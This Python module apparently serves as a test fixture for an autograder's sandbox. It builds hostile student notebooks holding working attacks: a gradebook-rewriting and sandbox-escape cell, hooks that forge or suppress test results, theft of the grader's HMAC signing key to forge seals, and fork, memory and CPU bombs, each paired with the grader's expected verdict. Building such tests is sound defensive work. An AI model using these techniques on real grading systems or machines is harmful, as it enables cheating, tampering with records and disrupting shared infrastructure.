"""A hostile sample class: one submission per attack family of issue 9, made from fx_basics.

Every notebook starts from the student version with the solution's answers (or wrong ones, where
the attack's point is to make failing answers pass), then gets the attack: a cell a student added,
an answer rewritten, or edited cell metadata.  ``Context`` carries what the attacks aim at (the
course folder, the repository, a loopback listener and a victim process the TEST opened), so they
aim at real targets.  Every attack is bounded on its own (at most 100 threads and 50 forks, 5 MB
of output, one 2 GB allocation, loops stopped by the cell timeout), and the ones that would touch
the machine outside the sandbox (planting an IPython startup file) check first that they run in it.

``EXPECTED[student]`` = (scores per test, status, what the reason must say).
"""

from __future__ import annotations

import copy
from dataclasses import dataclass

import nbformat

from autograder.tools.sample_class import _nbg, _replace_calls, solution_source, wrong_source

FULL = {"test_square": 1.0, "test_sigmoid": 2.0, "test_mean_loss": 2.0}
ZERO = dict.fromkeys(FULL, 0.0)


@dataclass
class Context:
    course_root: str
    repo: str
    port: int            # a TCP listener the test opened on 127.0.0.1
    victim: int          # a process the test started ("another student's kernel")
    marker: str          # unique string in the lingering process's command line
    late_file: str       # a host path the lingering process tries to write after grading
    home: str            # the grading user's home folder


# Prints one line per attempt: "ESCAPED: ..." when something outside the kernel was reached.
TRY = '''
def _try(what, attempt):
    try:
        got = attempt()
    except BaseException as error:
        print(f"blocked: {what}: {type(error).__name__}")
    else:
        print(f"ESCAPED: {what}: {got!r}"[:200])

def _do(what, attempt):
    try:
        print(f"done: {what}: {attempt()!r}"[:200])
    except BaseException as error:
        print(f"stopped: {what}: {type(error).__name__}: {error}"[:200])
'''

ESCAPE = '''
import os, socket, sqlite3, signal, subprocess, threading, time
ROOT, REPO = {root!r}, {repo!r}

def _gradebook(path):
    db = sqlite3.connect(f"file:{{path}}?mode=rw", uri=True)
    db.execute("UPDATE grade SET auto_score = 1000")
    db.commit()
    return "gradebook written"

# gradebooks: the course's and another job's
_try("write the course gradebook", lambda: _gradebook(ROOT + "/gradebook.db"))
_try("write another job's gradebook", lambda: _gradebook(ROOT + "/.work/honest_a__fx_basics/gradebook.db"))
# other students' files, the course, the repository
_try("read another student's submission",
     lambda: open(ROOT + "/submitted/honest_a/fx_basics/fx_basics.ipynb").read(50))
_try("read the source notebook (hidden tests)",
     lambda: open(ROOT + "/source/fx_basics/fx_basics.ipynb").read(50))
_try("list the grading jobs", lambda: os.listdir(ROOT + "/.work"))
_try("list the repository's notebooks", lambda: os.listdir(REPO + "/notebooks"))
_try("list the repository's tests", lambda: os.listdir(REPO + "/tests"))
_try("overwrite the source notebook",
     lambda: open(ROOT + "/source/fx_basics/fx_basics.ipynb", "w").write("{{}}"))
_try("overwrite the release", lambda: open(ROOT + "/release/fx_basics/fx_basics.ipynb", "w").write("{{}}"))
_try("append to nbgrader_config.py", lambda: open(ROOT + "/nbgrader_config.py", "a").write("#"))
import nnlib.checks
# opened for appending, nothing written: enough to show whether it could be changed
_try("open nnlib's checks for writing", lambda: open(nnlib.checks.__file__, "a").close())
_try("open nnlib's package folder for a new file",
     lambda: open(os.path.join(os.path.dirname(nnlib.__file__), "pwn.py"), "x").close())
def _home():
    # the sandbox shows the Python installation at its own path (it may live in this home)
    names = [n for n in os.listdir({home!r}) if n != ".pyenv"]
    if not names:
        raise PermissionError("only the Python installation is visible")
    return names
_try("list the grader's home", _home)
if os.environ.get("HOME") == "/home/student":     # only inside the sandbox: its own private home
    _do("plant an IPython startup file for later kernels", lambda: (
        os.makedirs(os.path.expanduser("~/.ipython/profile_default/startup"), exist_ok=True),
        open(os.path.expanduser("~/.ipython/profile_default/startup/00-pwn.py"), "w").write(
            "print('STARTUP-PWNED')")))
# network: a listener the test opened on the host's loopback; a route off the machine (UDP
# connect() sends no packet)
_try("connect to the host's loopback listener",
     lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"PWNED"))
def _route():
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.connect(("192.0.2.1", 9))
    return udp.getsockname()
_try("find a route off the machine", _route)
# signals to a process outside (stands for another student's kernel)
_try("SIGKILL a process outside the sandbox", lambda: os.kill({victim}, signal.SIGKILL))
_do("count the kernels it can see", lambda: sum(
    1 for p in os.listdir("/proc") if p.isdigit()
    and b"ipykernel" in open(f"/proc/{{p}}/cmdline", "rb").read()))
# a process that outlives grading and writes afterwards
_do("start a lingering process", lambda: subprocess.Popen(
    ["sh", "-c", "sleep 4; echo late > {late}; sleep 30 # {marker}"],
    start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).pid)
# floods, bounded here as well as by the sandbox
def _threads():
    started = 0
    for _ in range(100):
        threading.Thread(target=time.sleep, args=(2,), daemon=True).start()
        started += 1
    return started
_do("start 100 threads", _threads)
def _forks():
    children = 0
    for _ in range(50):
        if os.fork() == 0:
            time.sleep(2)
            os._exit(0)
        children += 1
    return children
_do("fork 50 processes", _forks)
time.sleep(2.5)
for _ in range(500):
    print("x" * 10000)     # 5 MB of output
'''

INPUT_HOOK = '''
import re
def _forge(lines):
    found = re.search(r"autograder.enter', '([0-9a-f]+)'", "".join(lines))
    if not found:
        return lines
    return [f"print('AUTOGRADER-SEAL {found.group(1)} ' + '0' * 64 + ' ((), ())')\\n"]
get_ipython().input_transformers_cleanup.append(_forge)
'''

AST_HOOK = '''
import ast
class _Swallow(ast.NodeTransformer):
    """Every statement of a block in try/except: a failing assert passes silently."""
    def visit_If(self, node):
        node.body = [ast.Try(body=[statement], handlers=[ast.ExceptHandler(
            type=None, name=None, body=[ast.Pass()])], orelse=[], finalbody=[])
            for statement in node.body]
        return node
get_ipython().ast_transformers.append(_Swallow())
'''

EVENT_HOOK = '''
import numpy as np
def _cheat(*args):
    names = get_ipython().user_ns
    names["check_array"] = names["check_scalar"] = lambda *a, **k: None
    np.allclose = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None
get_ipython().events.register("pre_run_cell", _cheat)
'''

_NEUTRALIZE = '''
import numpy as np
check_array = check_scalar = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
'''

IMPORT_HOOK = '''
import builtins, types
_real_import = builtins.__import__
_fake_sys = types.SimpleNamespace(audit=lambda *args: None)
_fake_guard = types.SimpleNamespace(kernel=types.SimpleNamespace(guard=types.SimpleNamespace(restore=lambda names: None)))
def _evil_import(name, *args, **kwargs):
    if name == "sys":
        return _fake_sys
    if name == "autograder.kernel.guard":
        return _fake_guard
    return _real_import(name, *args, **kwargs)
builtins.__import__ = _evil_import
''' + _NEUTRALIZE

GUARD_REPLACE = '''
import sys, types, autograder.kernel
_fake = types.ModuleType("autograder.kernel.guard")
def _restore(names):
    import numpy as np
    names["check_array"] = names["check_scalar"] = lambda *a, **k: None
    np.allclose = lambda *a, **k: True
    np.testing.assert_allclose = lambda *a, **k: None
_fake.restore = _restore
sys.modules["autograder.kernel.guard"] = autograder.kernel.guard = _fake
'''

# The residual the guard's docstring admits, carried out: a Python signal handler firing while the
# sealing hook runs gets the hook's frame, and from it the HMAC states; every test cell is then
# replaced by a print of a seal forged for the code as sent.  Only the hidden sentinel (a test that
# must fail, sealed all the same) shows it.
KEY_THEFT = '''
import re, signal, sys, time
from autograder.kernel.guard import SEAL_MARK, code_digest, seal_message
_stolen = {}
def _grab(signum, frame):
    while frame is not None:
        sign = frame.f_locals.get("sign") if frame.f_code.co_name == "sealer" else None
        if sign is not None:
            _stolen.update(zip(sign.__code__.co_freevars, (c.cell_contents for c in sign.__closure__)))
        frame = frame.f_back
_previous = signal.signal(signal.SIGALRM, _grab)
signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
_started = time.monotonic()
while "inner" not in _stolen and time.monotonic() - _started < 3:
    sys.audit("autograder.enter", 0)
signal.setitimer(signal.ITIMER_REAL, 0)
signal.signal(signal.SIGALRM, _previous)

def _forge(lines):
    text = "".join(lines)
    found = re.search(r"autograder.enter', '([0-9a-f]+)'", text)
    if not found or "inner" not in _stolen:
        return lines
    token, report = found.group(1), "((), ())"
    digest = code_digest(compile(text, "<cell>", "exec", dont_inherit=True))
    inner = _stolen["inner"].copy()
    inner.update(seal_message(token, digest, report))
    outer = _stolen["outer"].copy()
    outer.update(inner.digest())
    return [f"print({SEAL_MARK + ' ' + token + ' ' + outer.hexdigest() + ' ' + report!r})\\n"]
get_ipython().input_transformers_cleanup.append(_forge)
print("key stolen:", "inner" in _stolen)
'''

TRACE = ("    import sys\n    def tracer(frame, event, arg):\n        return tracer\n"
         "    sys.settrace(tracer)\n    return 1.0 / (1.0 + np.exp(-args[0]))")

PRIVATE_IMPORT = '''
def sigmoid(z):
    """nnlib's own sigmoid from a second, private import: forbid() only gates the loaded one."""
    import importlib.util, os, nnlib
    path = os.path.join(os.path.dirname(nnlib.__file__), "activations.py")
    spec = importlib.util.spec_from_file_location("nnlib.private_activations", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.sigmoid(z)
'''

FUNCTION_COPY = '''
import types, nnlib
sigmoid = types.FunctionType(nnlib.sigmoid.__code__, nnlib.sigmoid.__globals__, "sigmoid")
'''

SIGINT = ("    import signal\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
          "    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n    while True:\n        pass")


def _answers(nb):
    return [c for c in nb.cells if c.cell_type == "code" and _nbg(c).get("solution")
            and not _nbg(c).get("grade")]


def _filled(source_nb, release_nb, wrong=()):
    """The release with the solution's answers; answers named in ``wrong`` sign-flipped."""
    nb = copy.deepcopy(release_nb)
    source = {_nbg(c).get("grade_id"): c for c in source_nb.cells}
    for cell in _answers(nb):
        gid = _nbg(cell)["grade_id"]
        cell.source = (wrong_source(source[gid], "sign") if gid in wrong
                       else solution_source(source[gid]))
    return nb, source


def _add_after_imports(nb, code):
    """A cell the student added right after the notebook's import cell."""
    index = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1
    nb.cells.insert(index, nbformat.v4.new_code_cell(code))


def _answer(nb, gid):
    return next(c for c in _answers(nb) if _nbg(c)["grade_id"] == gid)


def _test(nb, gid):
    return next(c for c in nb.cells if _nbg(c).get("grade_id") == gid)


ALL_WRONG = ("square", "sigmoid", "mean_loss")


def make_class(source_nb, release_nb, ctx: Context):
    """{student: notebook} of the hostile class plus two honest students."""
    made = {}
    made["honest_a"], _ = _filled(source_nb, release_nb)
    made["honest_b"], _ = _filled(source_nb, release_nb, wrong=("sigmoid", "mean_loss"))

    nb, _ = _filled(source_nb, release_nb)
    _add_after_imports(nb, TRY + ESCAPE.format(root=ctx.course_root, repo=ctx.repo, port=ctx.port,
                                         victim=ctx.victim, marker=ctx.marker,
                                         late=ctx.late_file, home=ctx.home))
    made["escape"] = nb

    for student, attack in (("input_hook", INPUT_HOOK), ("ast_hook", AST_HOOK),
                            ("key_theft", KEY_THEFT),
                            ("import_hook", IMPORT_HOOK), ("guard_replace", GUARD_REPLACE)):
        nb, _ = _filled(source_nb, release_nb, wrong=ALL_WRONG)
        _add_after_imports(nb, attack)
        made[student] = nb

    nb, _ = _filled(source_nb, release_nb, wrong=("sigmoid", "mean_loss"))
    _add_after_imports(nb, EVENT_HOOK)
    made["event_hook"] = nb

    nb, source = _filled(source_nb, release_nb)
    _answer(nb, "sigmoid").source = _replace_calls(source["sigmoid"], TRACE)
    made["trace_hook"] = nb

    nb, _ = _filled(source_nb, release_nb)
    _answer(nb, "sigmoid").source = PRIVATE_IMPORT
    made["private_import"] = nb

    nb, _ = _filled(source_nb, release_nb)
    _answer(nb, "sigmoid").source = FUNCTION_COPY
    made["function_copy"] = nb

    nb, _ = _filled(source_nb, release_nb)
    _test(nb, "test_square").metadata.nbgrader.update(grade_id="test_square_renamed", points=1000)
    _test(nb, "test_sigmoid").metadata.nbgrader["points"] = 1000
    _answer(nb, "mean_loss").metadata.nbgrader.update(
        grade=True, solution=False, grade_id="test_mean_loss", points=1000)
    bonus = nbformat.v4.new_code_cell("pass  # worth a lot", metadata={"nbgrader": {
        "grade": True, "solution": False, "locked": True, "points": 1000, "grade_id": "bonus",
        "schema_version": 3}})
    nb.cells.append(bonus)
    nb.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
        "grade": True, "grade_id": 7, "points": "lots"}}))
    nb.cells.append(nbformat.v4.new_code_cell("pass", metadata={"nbgrader": ["garbage"]}))
    made["metadata_tamper"] = nb

    nb, source = _filled(source_nb, release_nb)
    _answer(nb, "square").source = _replace_calls(source["square"], SIGINT)
    made["sigint"] = nb

    nb, source = _filled(source_nb, release_nb)
    _answer(nb, "square").source = _replace_calls(source["square"], (
        "    import numpy as np\n    chunks = []\n    while True:\n"
        "        chunks.append(np.ones(2 ** 28))   # 2 GB a step"))
    made["memory_bomb"] = nb

    nb, source = _filled(source_nb, release_nb)
    _answer(nb, "square").source = _replace_calls(source["square"], "    while True:\n        pass")
    made["cpu_bomb"] = nb
    return made


FORGING = "a hidden test that must fail came back sealed: seals are being forged"
NO_SEAL = "the test did not run to its end as written (no seal)"
FORGED = "the code that ran is not the test as sent (invalid seal)"

# student: (scores, status, [phrases the reason must contain])
EXPECTED = {
    "honest_a": (FULL, "graded", []),
    "honest_b": ({**ZERO, "test_square": 1.0}, "graded", []),
    "escape": (FULL, "graded", []),
    "input_hook": (ZERO, "integrity", [f"test_square, test_sigmoid, test_mean_loss scored 0: {FORGED}"]),
    "ast_hook": (ZERO, "integrity", [f"test_square, test_sigmoid, test_mean_loss scored 0: {FORGED}"]),
    "key_theft": (ZERO, "integrity", [f"test_square, test_sigmoid, test_mean_loss scored 0: {FORGING}"]),
    # mean_loss's hidden test is a bare assert the attack cannot neutralize: an ordinary failure
    "import_hook": (ZERO, "integrity", [f"test_square, test_sigmoid scored 0: {NO_SEAL}"]),
    "guard_replace": (ZERO, "integrity", ["test_square, test_sigmoid scored 0: changed during the "
                                          "test:", "notebook name 'check_array'", "numpy.allclose"]),
    "event_hook": ({**ZERO, "test_square": 1.0}, "graded",
                   ["tampering undone before the tests:", "notebook name 'check_array'"]),
    "trace_hook": ({**ZERO, "test_square": 1.0}, "integrity",
                   ["test_mean_loss scored 0: sys.settrace (refused)"]),
    "private_import": ({**ZERO, "test_square": 1.0}, "integrity",
                       ["test_sigmoid, test_mean_loss scored 0: a second import of nnlib "
                        "(activations.py)"]),
    "function_copy": ({**ZERO, "test_square": 1.0}, "integrity",
                      ["test_sigmoid, test_mean_loss scored 0: a copy of nnlib's sigmoid made "
                       "with types.FunctionType"]),
    "metadata_tamper": (FULL, "integrity", [
        "cell metadata changed", "'test_square_renamed' claiming 1000 points ignored",
        "'bonus' claiming 1000 points ignored", "metadata of 'test_sigmoid' restored",
        "a second cell 'test_mean_loss' claiming 1000 points ignored",
        "a cell with unknown id 7 claiming lots points ignored", "a cell with unknown id None ignored",
        "deleted cells restored and graded: test_square"]),
    "sigint": (ZERO, "timeout", ["test_square timed out and the kernel ignored the interrupt"]),
    "memory_bomb": ({**FULL, "test_square": 0.0}, "memory", ["MemoryError", "test_square"]),
    "cpu_bomb": ({**FULL, "test_square": 0.0}, "graded", ["timed out after 5 s (scored 0): test_square"]),
}
